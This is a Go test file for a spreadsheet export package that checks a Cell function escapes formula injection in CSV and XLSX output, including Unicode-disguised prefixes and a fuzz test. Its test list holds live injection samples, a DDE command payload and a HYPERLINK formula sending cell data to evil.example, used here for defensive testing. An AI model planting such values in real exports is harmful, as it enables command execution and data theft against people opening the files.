package sheet

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
)

// formulas are what strangers write into questions, names and comments.
var formulas = []string{
	`=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example/?q="&A1,"看这里")`, "+1", "-1", "−1", "@SUM(A1)",
	"\t=1", "\r=1", "\x00=1", "\n=1", "＝1", "＋1", "－1", "＠x", "﹦1", "　=1", " \u00a0=1", "\ufeff=1", "\u200b=1",
	"\u200f\u2066=1", "\u00ad=1", "\ufe0f=1", "\u3164=1", "\u2060+1", "\u0085=1", "\u2028=1",
}

func TestCell(t *testing.T) {
	for _, text := range formulas {
		if got := Cell(text); !strings.HasPrefix(got, "'") {
			t.Errorf("%q is a formula: %q", text, got)
		}
	}
	for text, want := range map[string]string{
		"普通的问题，有\"引号\"\n和换行": "普通的问题，有\"引号\" 和换行",
		"1+1=2吗":     "1+1=2吗",
		"":           "",
		" ":          " ",
		"坏\xff字节":    "坏\uFFFD字节",
		"_x003D_1":   "_x003D_1",
		"2026-11-24": "2026-11-24",
	} {
		if got := Cell(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	if got := Cell(strings.Repeat("字", 40000)); utf8.RuneCountInString(got) != maxCell {
		t.Errorf("%d characters in a cell", utf8.RuneCountInString(got))
	}
}

// readCSV reads a table as a spreadsheet program would.
func readCSV(t testing.TB, data []byte) [][]string {
	t.Helper()
	text, marked := strings.CutPrefix(string(data), "\ufeff")
	if !marked {
		t.Fatalf("no byte order mark: %q", data[:min(8, len(data))])
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// readXLSX reads a workbook, and fails on a cell that is anything but text.
func readXLSX(t testing.TB, data []byte) [][]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetName(0)
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows {
		for j, text := range row {
			name, err := excelize.CoordinatesToCellName(j+1, i+1)
			if err != nil {
				t.Fatal(err)
			}
			kind, err := f.GetCellType(sheet, name)
			if err != nil || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
				t.Errorf("cell %s, %q, is of type %d: %v", name, text, kind, err)
			}
			if formula, err := f.GetCellFormula(sheet, name); err != nil || formula != "" {
				t.Errorf("cell %s has the formula %q: %v", name, formula, err)
			}
		}
	}
	return rows
}

func write(t testing.TB, rows [][]string) (fromCSV, fromXLSX [][]string) {
	t.Helper()
	var c, x bytes.Buffer
	if err := CSV(&c, rows); err != nil {
		t.Fatal(err)
	}
	if err := XLSX(&x, rows); err != nil {
		t.Fatal(err)
	}
	return readCSV(t, c.Bytes()), readXLSX(t, x.Bytes())
}

// TestTables are read back as they were written, but for formulas.
func TestTables(t *testing.T) {
	rows := [][]string{{"编号", "问题"}}
	for _, text := range append(slices.Clone(formulas), "普通", `有"引号"，逗号,和' 撇`, "'=1") {
		rows = append(rows, []string{"k", text})
	}
	fromCSV, fromXLSX := write(t, rows)
	for i, row := range rows {
		want := cells(row)
		if !slices.Equal(fromCSV[i], want) || !slices.Equal(fromXLSX[i], want) {
			t.Errorf("row %d: %q in CSV, %q in XLSX, want %q", i, fromCSV[i], fromXLSX[i], want)
		}
	}
	if _, x := write(t, nil); len(x) != 0 {
		t.Errorf("an empty table has %q", x)
	}
}

// FuzzCell: no cell begins like a formula, and both tables give back what was written.
func FuzzCell(f *testing.F) {
	for _, text := range formulas {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		want := Cell(text)
		if first := strings.TrimLeftFunc(want, invisible); first != "" && strings.ContainsAny(first[:firstRune(first)], "=+-@−＝＋－＠\t\r\n\x00") {
			t.Errorf("%q begins like a formula: %q", text, want)
		}
		rows := [][]string{{"k", text}}
		fromCSV, fromXLSX := write(t, rows)
		if fromCSV[0][1] != want || len(fromXLSX[0]) > 1 && fromXLSX[0][1] != want || len(fromXLSX[0]) < 2 && want != "" {
			t.Errorf("%q: %q in CSV, %q in XLSX, want %q", text, fromCSV, fromXLSX, want)
		}
	})
}
